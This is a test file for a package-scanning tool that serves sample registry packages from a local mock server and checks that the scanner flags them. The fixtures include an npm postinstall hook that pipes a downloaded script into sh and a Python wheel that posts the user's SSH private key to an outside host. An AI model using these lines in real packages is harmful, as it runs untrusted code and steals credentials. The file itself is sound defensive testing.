import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync, strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tocsin } from './run-tocsin.js';

/** A tar archive of short files. */
function tar(files: Record<string, string>): Uint8Array {
  const blocks = Object.entries(files).map(([name, text]) => {
    const content = strToU8(text);
    const bytes = new Uint8Array(512 + Math.ceil(content.length / 512) * 512);
    bytes.set(strToU8(name), 0);
    bytes.set(strToU8(content.length.toString(8).padStart(11, '0')), 124);
    bytes[156] = 48;
    bytes.set(strToU8('ustar'), 257);
    bytes.set(content, 512);
    return bytes;
  });
  return Buffer.concat([...blocks, new Uint8Array(1024)]);
}

const THIEF =
  'import os, requests\nrequests.post("https://in.collect.dev", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n';
const archives: Record<string, Uint8Array> = {
  '/honest.tgz': gzipSync(
    tar({
      'package/package.json': '{"name": "honest", "version": "1.0.0"}',
      'package/index.js': 'export const a = 1;',
    }),
  ),
  '/install.tgz': gzipSync(
    tar({
      'package/package.json':
        '{"name": "install", "version": "2.0.0", "scripts": {"postinstall": "curl -s https://boot.collect.dev/x | sh"}}',
    }),
  ),
  '/bomb.tgz': gzipSync(tar({ 'package/a.txt': 'a'.repeat(20_000_000) })),
  '/text.tgz': strToU8('no archive'),
  '/thief.whl': zipSync({ 'thief/__init__.py': strToU8(THIEF) }),
};
const requests: string[] = [];
let registry: Server;
let base: string;

beforeAll(async () => {
  registry = createServer((request, response) => {
    const path = request.url!;
    requests.push(path);
    const archive = archives[path];
    if (archive) return void response.end(archive);
    const [, name] = /^\/(honest|install|bomb|text|changed)\/(?:latest|[\d.]+)$/.exec(path) ?? [];
    if (name) {
      const file = name === 'changed' ? 'honest' : name;
      const shown = archives[`/${name === 'changed' ? 'install' : name}.tgz`]!;
      const integrity = `sha512-${createHash('sha512').update(shown).digest('base64')}`;
      return void response.end(
        JSON.stringify({ version: '1.0.0', dist: { tarball: `${base}/${file}.tgz`, integrity } }),
      );
    }
    if (path === '/pypi/thief/json') {
      const sha256 = createHash('sha256').update(archives['/thief.whl']!).digest('hex');
      const file = {
        filename: 'thief-0.1-py3-none-any.whl',
        packagetype: 'bdist_wheel',
        url: '../../thief.whl',
        digests: { sha256 },
      };
      return void response.end(JSON.stringify({ info: { version: '0.1' }, urls: [file] }));
    }
    response.statusCode = 404;
    response.end();
  });
  await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(registry.address() as AddressInfo).port}`;
});

afterAll(() => registry.close());

const scan = async (name: string, ...options: string[]) => {
  const { code, stdout, stderr } = await tocsin(['scan', name, '--registry', base, '--format', 'json', ...options]);
  const report = stdout === '' ? undefined : JSON.parse(stdout);
  return {
    code,
    stderr,
    report,
    rules: report?.artifacts.flatMap(({ findings }: { findings: { rule: string }[] }) =>
      findings.map(({ rule }) => rule),
    ),
  };
};

describe('a package of a registry', () => {
  it('is read without a finding', async () => {
    const { code, report } = await scan('npm:honest@1.0.0', '--yes');
    expect(code).toBe(0);
    expect(report.artifacts).toMatchObject([{ name: 'honest@1.0.0', source: 'npm:honest@1.0.0', level: 'CLEAN' }]);
  });

  it('is not downloaded without consent', async () => {
    const before = requests.length;
    const { code, report } = await scan('npm:honest');
    expect(code).toBe(2);
    expect(report.problems).toMatchObject([{ source: 'npm:honest', code: 'not-run' }]);
    expect(requests.length).toBe(before);
  });

  it('is reported with its install script, which is not run', async () => {
    const { code, rules } = await scan('npm:install', '--yes');
    expect(code).toBe(1);
    expect(rules).toContain('code/runs-download');
  });

  it('is followed in Python', async () => {
    const { rules } = await scan('pypi:thief', '--yes');
    expect(rules).toContain('code/sends-secrets');
  });

  it.each([
    ['npm:changed', 'bad-checksum'],
    ['npm:missing', 'download-failed'],
    ['npm:text', 'bad-archive'],
  ])('is a problem: %s', async (name, code) => {
    const run = await scan(name, '--yes');
    expect(run.code).toBe(2);
    expect(run.report.problems).toMatchObject([{ code }]);
  });

  it('is reported as not inspected beyond the limits', async () => {
    const { code, report } = await scan('npm:bomb', '--yes');
    expect(code).toBe(2);
    expect(report.artifacts[0].skipped).toMatchObject([{ reason: 'larger than 4 MB' }]);
  });

  it('has a name that a registry allows', async () => {
    const { code, stderr } = await scan('npm:../x', '--yes');
    expect(code).toBe(2);
    expect(stderr).toContain('Invalid package');
  });
});
